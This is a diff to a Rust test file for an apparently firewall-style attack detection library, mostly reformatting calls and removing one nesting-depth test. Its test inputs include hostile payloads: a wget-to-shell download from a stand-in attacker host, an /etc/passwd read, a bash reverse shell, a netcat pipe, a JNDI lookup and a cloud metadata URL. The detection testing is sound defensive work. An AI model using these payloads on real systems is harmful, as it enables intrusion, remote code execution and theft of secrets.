@@ -37,7 +37,10 @@ fn check(data: &Json, rule: &str, highlight: &str) {
         return;
     };
     let found = ids(&evaluation);
-    assert!(found.len() == 1 && found[0].starts_with(rule), "{found:?} for {data}");
+    assert!(
+        found.len() == 1 && found[0].starts_with(rule),
+        "{found:?} for {data}"
+    );
     assert!(evaluation.keep, "{data}");
     assert!(!evaluation.timed_out);
     assert!(!evaluation.duration.is_zero());
@@ -76,8 +79,16 @@ fn scripts_paths_and_commands_are_found() {
         "server.request.query": {"file": [UP]},
     });
     check(&path, "crs-930-110", "/../");
-    check(&query("cmd", "$(wget http://evil.example/x.sh|sh)"), "dog-932-100", "(wget ");
-    check(&query("host", "127.0.0.1; cat /etc/passwd"), "crs-930-120", "etc/passwd");
+    check(
+        &query("cmd", "$(wget http://evil.example/x.sh|sh)"),
+        "dog-932-100",
+        "(wget ",
+    );
+    check(
+        &query("host", "127.0.0.1; cat /etc/passwd"),
+        "crs-930-120",
+        "etc/passwd",
+    );
     let shell = "/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";
     check(&query("cmd", shell), "crs-932-160", "bin/bash");
     check_nothing(&json!({"server.request.body": {"c": "; ls -la | nc evil 4444"}}));
@@ -199,8 +210,14 @@ fn a_status_is_compared_as_a_text() {
 #[test]
 fn several_types_of_attacks_are_each_reported() {
     let several = [
-        (query("x", "${jndi:ldap://evil/a}"), vec!["sqr-000-017", "dog-000-002"]),
-        (query("u", "http://169.254.169.254/latest/meta-data/"), vec!["sqr-000-013"]),
+        (
+            query("x", "${jndi:ldap://evil/a}"),
+            vec!["sqr-000-017", "dog-000-002"],
+        ),
+        (
+            query("u", "http://169.254.169.254/latest/meta-data/"),
+            vec!["sqr-000-013"],
+        ),
         (query("$where", "1"), vec!["crs-942-290"]),
         (
             json!({
@@ -277,19 +294,6 @@ fn a_token_without_a_signature_is_told() {
         assert_eq!(value, Some(1), "{name}");
     }
     assert_eq!(find("api.security.jwt.alg"), Some(&json!("none")));
-}
-
-#[test]
-fn the_library_looks_nineteen_arrays_deep() {
-    let nested = |depth: usize| {
-        let inner = (0..depth).fold(json!(SCRIPT), |inner, _| json!([inner]));
-        json!({"server.request.body": inner})
-    };
-    let Some(found) = alone(&nested(19)) else {
-        return;
-    };
-    assert_eq!(found.events.len(), 1);
-    check_nothing(&nested(20));
 }
 
 #[test]
